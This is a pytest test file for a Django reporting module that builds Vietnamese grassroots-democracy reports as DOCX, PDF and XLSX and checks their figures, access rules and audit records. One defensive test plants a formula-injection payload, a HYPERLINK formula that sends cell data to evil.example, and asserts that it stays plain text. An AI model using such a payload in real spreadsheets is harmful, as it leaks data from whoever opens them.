"""Periodic reports: a quarter, a half-year (the sum of its two quarters) or a year of a unit, as a paper ready to
sign (DOCX, PDF) and a workbook (XLSX), each read back; issuing one is in the audit trail; access as the
dashboards' (a steering member on the unit or above it, a commune's officials for their commune)."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from grassroots.accounts.models import Role
from grassroots.accounts.tests.factories import UserFactory, grant
from grassroots.core.errors import DomainError
from grassroots.core.indicators import Indicator, Item
from grassroots.core.models import AuditEvent
from grassroots.core.tests.readback import docx_text, flat, pdf_text
from grassroots.reporting import periodic, refresh, registry
from grassroots.reporting.figures import Tally
from grassroots.reporting.periodic import HALF_YEAR, Period
from grassroots.territory.models import UnitKind
from grassroots.territory.tests.factories import UnitFactory, make_tree

from .fakes import FAKES

pytestmark = pytest.mark.django_db
TODAY = dt.date(2026, 7, 20)


@pytest.fixture
def tree(fake_indicators):  # type: ignore[no-untyped-def]
    """Province A with communes AC (two villages) and AD; Q4 2025, Q1 and Q2 2026 items in AC, Q2 in AD."""
    t = make_tree("A")
    t["other"] = UnitFactory(code="AD", name="Xã Đông", kind=UnitKind.COMMUNE, parent=t["province"])
    v1, v2 = t["village1"].pk, t["village2"].pk
    fake_indicators["fake_a"] += [
        Item(v1, dt.date(2025, 11, 3), "q4", 0, 1),
        Item(v1, dt.date(2026, 2, 3), "q1a", 1, 1),
        Item(v2, dt.date(2026, 3, 3), "q1b", 1, 1),
        Item(v1, dt.date(2026, 5, 3), "q2a", 1, 1),
        Item(v2, dt.date(2026, 6, 3), "q2b", 0, 1, deadline=dt.date(2026, 6, 10), overdue=True),
        Item(t["other"].pk, dt.date(2026, 5, 5), "d", 1, 1),
    ]
    refresh.refresh_commune(t["commune"], TODAY)
    refresh.refresh_commune(t["other"], TODAY)
    return t


def _steering(unit):  # type: ignore[no-untyped-def]
    user = UserFactory()
    grant(user, unit, Role.STEERING_MEMBER)
    return user


def test_a_half_year_is_the_sum_of_its_two_quarters(tree):
    commune = tree["commune"]
    assert periodic.period_figures(commune, Period("Q", 2026, 1))["fake_a"] == Tally(2, 2, 2)
    assert periodic.period_figures(commune, Period("Q", 2026, 2))["fake_a"] == Tally(1, 2, 2)
    assert periodic.period_figures(commune, Period(HALF_YEAR, 2026, 1))["fake_a"] == Tally(3, 4, 4)
    assert periodic.period_figures(tree["province"], Period(HALF_YEAR, 2026, 1))["fake_a"] == Tally(4, 5, 5)
    assert periodic.period_figures(commune, Period(HALF_YEAR, 2026, 2)) == {}  # no data yet, not zero


def test_the_previous_period_is_of_the_same_kind():
    assert Period("Q", 2026, 1).previous() == Period("Q", 2025, 4)
    assert Period(HALF_YEAR, 2026, 1).previous() == Period(HALF_YEAR, 2025, 2)
    assert Period("Y", 2026).previous() == Period("Y", 2025)
    assert Period(HALF_YEAR, 2026, 2).end == dt.date(2026, 12, 31)


def test_the_units_below_are_ranked_and_a_unit_without_data_is_not(tree):
    report = periodic.build(tree["province"], Period("Q", 2026, 2), TODAY)
    assert [(r.unit.code, r.rank) for r in report.below] == [("AD", 1), ("AC", 2)]
    report = periodic.build(tree["province"], Period("Q", 2026, 3), TODAY)
    assert [r.rank for r in report.below] == [None, None]


def test_the_paper_and_the_workbook_carry_the_figures_and_the_previous_period(client, sign_in, tree):
    sign_in(client, _steering(tree["province"]))
    commune = tree["commune"]
    url = reverse("reporting_reports:report-download", args=[commune.code, "Q", 2026, 1, "docx"])
    response = client.get(url)
    assert response.status_code == 200
    docx = flat_docx(response.content)
    pdf = flat_pdf(client.get(url.replace(".docx", ".pdf")).content)
    for text in (docx, pdf):
        assert "BÁO CÁO" in text and "quý I năm 2026" in text
        assert "100,0% (2/2)" in text  # Q1 2026
        assert "0,0% (0/1)" in text  # Q4 2025 beside it
        assert "+100,0 điểm %" in text
        assert "chưa có số liệu" in text  # fake_b: no data
        assert "Điều 11 Luật Thực hiện dân chủ ở cơ sở" in text  # the citation, as officials write it
        assert "q2b" in text  # the overdue list
    workbook = load_workbook(io.BytesIO(client.get(url.replace(".docx", ".xlsx")).content), read_only=True)
    assert workbook.sheetnames == ["Chỉ tiêu", "Đơn vị trực thuộc", "Việc quá hạn"]
    rows = list(workbook["Chỉ tiêu"].iter_rows(values_only=True))
    fake_a = next(r for r in rows if r[0] == "fake_a")
    assert fake_a[3:] == (2, 2, 100.0, 0, 1, 0.0)
    fake_b = next(r for r in rows if r[0] == "fake_b")
    assert fake_b[5] == "chưa có số liệu"
    below = list(workbook["Đơn vị trực thuộc"].iter_rows(values_only=True))
    assert [r[2] for r in below[1:]] == ["Thôn A1", "Thôn A2"]
    overdue = list(workbook["Việc quá hạn"].iter_rows(values_only=True))
    assert overdue[1][1] == "q2b"


def test_a_half_year_report_sums_the_quarters(client, sign_in, tree):
    sign_in(client, _steering(tree["province"]))
    url = reverse("reporting_reports:report-download", args=[tree["commune"].code, HALF_YEAR, 2026, 1, "docx"])
    text = flat_docx(client.get(url).content)
    assert "6 tháng đầu năm 2026" in text and "75,0% (3/4)" in text


def test_issuing_a_report_is_recorded_in_the_audit_trail(client, sign_in, tree):
    user = _steering(tree["province"])
    sign_in(client, user)
    url = reverse("reporting_reports:report-download", args=[tree["province"].code, "Y", 2026, 1, "pdf"])
    assert client.get(url).status_code == 200
    event = AuditEvent.objects.get(verb="reporting.report_issued")
    assert event.actor_id == user.pk and event.data == {"kind": "Y", "year": 2026, "number": 1, "format": "pdf"}
    assert event.unit_id == tree["province"].pk


def test_the_reports_page_links_every_format(client, sign_in, tree):
    sign_in(client, _steering(tree["province"]))
    response = client.get(reverse("reporting_reports:reports", args=[tree["commune"].code]))
    assert response.status_code == 200
    html = response.content.decode()
    for ext in ("docx", "pdf", "xlsx"):
        assert reverse("reporting_reports:report-download", args=["AC", "Y", 2025, 1, ext]) in html


def test_a_user_of_another_province_or_commune_is_refused(client, sign_in, tree):
    other = make_tree("B")
    commune = tree["commune"]
    page = reverse("reporting_reports:reports", args=[commune.code])
    download = reverse("reporting_reports:report-download", args=[commune.code, "Q", 2026, 1, "pdf"])
    sign_in(client, _steering(other["province"]))
    assert client.get(page).status_code == 404
    assert client.get(download).status_code == 404
    official = UserFactory()
    grant(official, other["commune"], Role.COMMUNE_OFFICIAL)
    sign_in(client, official)
    assert client.get(page).status_code == 404
    # A commune official reads their own commune and its villages, not the province.
    grant(official, commune, Role.COMMUNE_CHAIR)
    assert client.get(page).status_code == 200
    assert client.get(reverse("reporting_reports:reports", args=[tree["village1"].code])).status_code == 200
    assert client.get(reverse("reporting_reports:reports", args=["AP"])).status_code == 404
    assert not AuditEvent.objects.filter(verb="reporting.report_issued").exists()


def test_an_unknown_period_or_format_is_a_404(client, sign_in, tree):
    sign_in(client, _steering(tree["province"]))
    for args in (
        ["AC", "Q", 2026, 5, "pdf"],
        ["AC", "H", 2026, 3, "pdf"],
        ["AC", "Y", 2026, 1, "odt"],
        ["AC", "M", 2026, 1, "pdf"],
    ):
        assert client.get(reverse("reporting_reports:report-download", args=args)).status_code == 404


tallies = st.dictionaries(
    st.sampled_from(["fake_a", "fake_b", "other"]),
    st.builds(Tally, st.integers(0, 10**6), st.integers(0, 10**6), st.integers(0, 10**6)),
)


@given(first=tallies, second=tallies)
def test_a_half_years_sums_are_the_quarters_sums_and_no_data_stays_absent(first, second):
    total = periodic._sum([first, second])
    assert set(total) == set(first) | set(second)  # an indicator with no data in both quarters stays absent
    for code, t in total.items():
        parts = [p[code] for p in (first, second) if code in p]
        assert t.numerator == sum(p.numerator for p in parts)
        assert t.denominator == sum(p.denominator for p in parts)
        assert t.items == sum(p.items for p in parts)


def test_the_download_is_named_after_the_unit_and_the_period(client, sign_in, tree):
    sign_in(client, _steering(tree["province"]))
    url = reverse("reporting_reports:report-download", args=["AC", HALF_YEAR, 2026, 2, "xlsx"])
    response = client.get(url)
    assert 'filename="bao-cao-AC-2026-H2.xlsx"' in response["Content-Disposition"]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")


def test_text_typed_as_a_formula_stays_text_in_the_workbook(tree, fake_indicators):
    """A title, a unit's name or the person responsible typed as "=HYPERLINK(…)" must not become a live formula."""
    trap = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    village = tree["village1"]
    village.name = "=1+2"
    village.save()
    fake_indicators["fake_a"].append(
        Item(village.pk, dt.date(2026, 5, 9), trap, 0, 1, deadline=dt.date(2026, 5, 20), overdue=True,
             responsible="@SUM(1;2)", url="/m/9/")
    )  # fmt: skip
    refresh.refresh_commune(tree["commune"], TODAY)
    content = periodic.workbook(periodic.build(tree["commune"], Period("Q", 2026, 2), TODAY))
    book = load_workbook(io.BytesIO(content))  # not read-only: the cells' types are read back
    overdue = {c.value: c for row in book["Việc quá hạn"].iter_rows() for c in row}
    below = {c.value: c for row in book["Đơn vị trực thuộc"].iter_rows() for c in row}
    for cell in (overdue[trap], overdue["@SUM(1;2)"], overdue["=1+2"], below["=1+2"]):
        assert cell.data_type == "s", cell.value
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert overdue["/m/9/"].data_type == "s"
    numbers = next(r for r in book["Chỉ tiêu"].iter_rows(values_only=True) if r[0] == "fake_a")
    assert numbers[3:6] == (1, 3, 33.3)  # the figures stay numbers


def _paper(unit):  # type: ignore[no-untyped-def]
    return periodic.paper(periodic.build(unit, Period("Q", 2026, 2), TODAY))


def test_each_paper_is_headed_and_signed_by_the_body_that_issues_it(tree):
    province = _paper(tree["province"])
    assert province.unit_lines == ("BAN CHỈ ĐẠO THỰC HIỆN DÂN CHỦ Ở CƠ SỞ TỈNH A", "")
    assert province.signatures == [("TM. BAN CHỈ ĐẠO\nTRƯỞNG BAN", "")]
    assert province.place_date.startswith("A, ngày ")
    commune = _paper(tree["commune"])
    assert commune.unit_lines == ("ỦY BAN NHÂN DÂN", "XÃ A")
    assert commune.signatures == [("TM. ỦY BAN NHÂN DÂN\nCHỦ TỊCH", "")]
    assert "BAN CHỈ ĐẠO" not in commune.unit_lines[0]
    village = _paper(tree["village1"])
    assert village.unit_lines == ("XÃ A", "THÔN A1")
    assert village.signatures == [("TRƯỞNG THÔN", "")]
    assert village.place_date.startswith("A1, ngày ")
    group = UnitFactory(code="AC-9", name="Hòa Bình", kind=UnitKind.RESIDENTIAL_GROUP, parent=tree["commune"])
    paper = _paper(group)
    assert paper.unit_lines == ("XÃ A", "TỔ DÂN PHỐ HÒA BÌNH")
    assert paper.signatures == [("TỔ TRƯỞNG TỔ DÂN PHỐ", "")]
    assert paper.place_date.startswith("Hòa Bình, ngày ")


def test_the_commune_paper_drawn_to_docx_says_who_issues_it(client, sign_in, tree):
    sign_in(client, _steering(tree["province"]))
    url = reverse("reporting_reports:report-download", args=[tree["commune"].code, "Q", 2026, 1, "docx"])
    text = flat_docx(client.get(url).content)
    assert "ỦY BAN NHÂN DÂN" in text and "XÃ A" in text and "CHỦ TỊCH" in text
    assert "BAN CHỈ ĐẠO" not in text


@pytest.mark.parametrize(
    ("name", "place"),
    [
        ("Xã Quảng Phú", "Quảng Phú"),
        ("Thôn Đông Hòa", "Đông Hòa"),
        ("Tổ dân phố Hòa Bình", "Hòa Bình"),
        ("Tỉnh Thanh Hóa", "Thanh Hóa"),
        ("Thôn 3", "Thôn 3"),  # a number alone is no place
        ("Phường 2", "Phường 2"),
        ("Thôn", "Thôn"),
    ],
)
def test_the_place_line_drops_the_kind_word(name, place):
    assert periodic._place(name) == place


def test_a_period_that_has_not_started_is_refused_with_a_message(client, sign_in, tree):
    user = _steering(tree["province"])
    with translation.override("en"), pytest.raises(DomainError, match="has not started yet"):
        periodic.issue_report(actor=user, unit=tree["commune"], period=Period("Q", 2026, 3), ext="pdf",
                              today=dt.date(2026, 6, 30))  # fmt: skip
    sign_in(client, user)
    future = timezone.localdate().year + 1
    url = reverse("reporting_reports:report-download", args=[tree["commune"].code, "Y", future, 1, "pdf"])
    response = client.get(url, follow=True)
    assert response.redirect_chain == [(reverse("reporting_reports:reports", args=["AC"]), 302)]
    [message] = [str(m) for m in response.context["messages"]]
    assert str(future) in message
    assert not AuditEvent.objects.filter(verb="reporting.report_issued").exists()


def test_a_unit_abolished_before_the_period_is_not_in_its_ranking(tree):
    merged = UnitFactory(code="AM", name="Xã Cũ", kind=UnitKind.COMMUNE, parent=tree["province"],
                         valid_to=dt.date(2025, 7, 1))  # fmt: skip
    later = UnitFactory(code="AN", name="Xã Mới", kind=UnitKind.COMMUNE, parent=tree["province"],
                        valid_from=dt.date(2026, 7, 1))  # fmt: skip
    now = [r.unit for r in periodic.build(tree["province"], Period("Q", 2026, 2), TODAY).below]
    assert merged not in now and later not in now and tree["commune"] in now
    before = [r.unit for r in periodic.build(tree["province"], Period(HALF_YEAR, 2025, 1), TODAY).below]
    assert merged in before and later not in before


def test_the_citation_column_gives_the_official_form_and_a_dash_where_no_article_sets_it(tree, monkeypatch):
    extra = (
        Indicator("fake_c", "Fake C", "C", "", "done", "due", lambda *a: [], order=3),
        Indicator("fake_d", "Fake D", "D", "Law Arts 12(3), 13", "done", "due", lambda *a: [], order=4),
    )
    monkeypatch.setattr(registry, "all_indicators", lambda: (*FAKES, *extra))
    paper = _paper(tree["commune"])
    rows = {r.indicator.code: r.citation for r in periodic.build(tree["commune"], Period("Q", 2026, 2), TODAY).rows}
    assert rows["fake_a"] == "Điều 11 Luật Thực hiện dân chủ ở cơ sở"
    assert rows["fake_c"] == "—"
    assert rows["fake_d"] == "khoản 3 Điều 12 Luật Thực hiện dân chủ ở cơ sở; Điều 13 Luật Thực hiện dân chủ ở cơ sở"
    text = paper.text()
    assert "| Fake C | — |" in text
    assert "không có điều, khoản nào quy định" in text


def flat_docx(content: bytes) -> str:
    return flat(docx_text(content))


def flat_pdf(content: bytes) -> str:
    return flat(pdf_text(content))
